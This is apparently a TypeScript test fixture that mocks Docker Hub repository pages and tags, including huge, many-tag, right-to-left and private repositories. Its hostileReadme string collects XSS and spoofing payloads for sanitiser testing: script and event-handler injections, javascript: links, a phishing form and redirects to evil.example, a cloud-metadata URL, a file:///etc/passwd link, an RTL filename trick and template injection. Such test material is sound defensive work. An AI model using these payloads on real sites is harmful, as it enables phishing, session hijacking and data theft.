/** Repositories of a stand-in for Docker Hub, in Hub's own shapes (docker/docs, reference/api/hub/latest.yaml): plain, hostile and huge. */

export interface HubTagAnswer {
  readonly name: string
  readonly full_size: number
  readonly digest?: string
  readonly last_updated: string
  readonly tag_last_pushed: string
  readonly tag_last_pulled: string | null
  readonly tag_status: string
  readonly images: ReadonlyArray<Readonly<Record<string, unknown>>>
}

export interface HubPage {
  readonly namespace: string
  readonly name: string
  readonly description?: string
  readonly full_description?: string | null
  readonly is_private?: boolean
  readonly star_count?: number
  readonly pull_count?: number
  readonly tags?: readonly HubTagAnswer[]
}

const digestOf = (text: string): string => {
  let [one, two] = [0x811c9dc5, 5381]
  for (const character of text) {
    const code = character.codePointAt(0) ?? 0
    one = Math.imul(one ^ code, 0x01000193) >>> 0
    two = (Math.imul(two, 33) + code) >>> 0
  }
  const part = (seed: number): string => (Math.imul(one + seed, 2654435761) >>> 0).toString(16).padStart(8, '0')
  return `sha256:${Array.from({ length: 7 }, (_, index) => part(index + two)).join('')}${two.toString(16).padStart(8, '0')}`
}
const hoursAgo = (hours: number): string => new Date(Date.now() - hours * 3_600_000).toISOString()

const platforms = [
  { architecture: 'amd64', variant: null },
  { architecture: 'arm', variant: 'v7' },
  { architecture: 'arm64', variant: 'v8' }
] as const

function hubTag(name: string, { age = 24, size = 13_000_000, all = true } = {}): HubTagAnswer {
  const images = (all ? platforms : platforms.slice(0, 1)).map(({ architecture, variant }, index) => ({
    architecture,
    features: '',
    variant,
    digest: digestOf(`${name} ${architecture}`),
    os: 'linux',
    os_features: '',
    os_version: null,
    size: size + index * 1_000,
    status: 'active',
    last_pulled: hoursAgo(1),
    last_pushed: hoursAgo(age)
  }))
  // As an attestation stands among them.
  const attestation = {
    architecture: 'unknown',
    os: 'unknown',
    variant: null,
    digest: digestOf(`${name} sbom`),
    size: 9
  }
  return {
    name,
    full_size: size,
    digest: digestOf(name),
    last_updated: hoursAgo(age),
    tag_last_pushed: hoursAgo(age),
    tag_last_pulled: hoursAgo(1),
    tag_status: 'active',
    images: [...images, attestation]
  }
}

const helloReadme = `# Quick reference

-	**Maintained by**:
	[the Docker Community](https://github.com/docker-library/hello-world)

-	**Where to get help**: [the Docker Community Slack](https://dockr.ly/comm-slack)

## Supported tags

| Tag | Architectures | Size |
|:----|:-------------:|-----:|
| \`latest\`, \`linux\` | \`amd64\`, \`arm64v8\` | 13 kB |
| \`nanoserver\` | \`windows-amd64\` | 300 MB |

![logo](https://pictures.example/hello.png)

## Example output

\`\`\`console
$ docker run hello-world

Hello from Docker!
This message shows that your installation appears to be working correctly.
\`\`\`

> **Note**: the text above is what the image says &mdash; and it is *all* that it does.

1. Read this.
2. Run it:
   - [x] pulled
   - [ ] run
3. See [License](#license) or [a page of the same site](./other).

<details><summary>More</summary><p>Folded <b>words</b> &amp; <a href="https://docs.docker.com/">a link</a>.</p></details>

## License

View [license information](https://github.com/docker-library/hello-world).
`

/** Every way that comes to mind of a README to do more than be read. */
export const hostileReadme = `# <script>document.title = 'owned'</script> Hostile <img src=x onerror="document.title='owned'">

<script>document.title = 'owned'</script>
<iframe src="https://evil.example/"></iframe>
<style>* { display: none !important }</style>
<svg onload="document.title='owned'"><script>document.title='owned'</script></svg>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<a href="javascript:document.title='owned'" onclick="document.title='owned'">javascript link</a>
<p style="position:fixed;inset:0" onmouseover="document.title='owned'">Styled words</p>
<object data="https://evil.example/x"></object><embed src="https://evil.example/y"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">

[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [vb](vbscript:x)
[a bank](https://evil.example/login "https://bank.example")
![tracker](https://evil.example/track.gif) ![inside](http://169.254.169.254/latest/meta-data)
[![badge](https://evil.example/badge.svg)](https://evil.example/)

Written from the right: \u202egnp.exe\u202c and on.

{{ constructor.constructor('document.title = 1')() }} \${document.title}
`

export const hubPages: readonly HubPage[] = [
  {
    namespace: 'library',
    name: 'hello-world',
    description: 'Hello World! (an example of minimal Dockerization)',
    full_description: helloReadme,
    star_count: 2400,
    pull_count: 12_000_000_000,
    tags: [
      hubTag('latest', { age: 20 }),
      hubTag('linux', { age: 20 }),
      hubTag('nanoserver', { age: 900, size: 300_000_000, all: false })
    ]
  },
  {
    namespace: 'hostile',
    name: 'readme',
    description: '<b>bold?</b> \u202eback to front',
    full_description: hostileReadme,
    tags: [hubTag('latest')]
  },
  {
    namespace: 'hostile',
    name: 'huge',
    description: 'Five megabytes of README',
    full_description:
      '# Huge\n\n' + 'A paragraph with **words** and `code`, again and again and again.\n\n'.repeat(76_000),
    tags: []
  },
  {
    namespace: 'many',
    name: 'tags',
    description: 'Ten thousand tags',
    full_description: '',
    tags: Array.from({ length: 10_000 }, (_, index) =>
      hubTag(`v${String(10_000 - index).padStart(5, '0')}`, { age: index })
    )
  },
  {
    namespace: 'rtl',
    name: 'readme',
    description: 'ميناء للحاويات',
    full_description: '# ميناء\n\nنص من اليمين إلى اليسار مع `docker run` في الوسط.',
    tags: [hubTag('1.0')]
  },
  {
    namespace: 'ann',
    name: 'public-app',
    description: 'For everyone',
    star_count: 3,
    pull_count: 99,
    tags: [hubTag('1')]
  },
  {
    namespace: 'ann',
    name: 'secret-app',
    description: 'For Ann alone',
    full_description: 'Nobody else reads this.',
    is_private: true,
    tags: [hubTag('2', { all: false })]
  },
  { namespace: 'harbour', name: 'crane', description: 'Of the organisation', is_private: true, tags: [] }
]
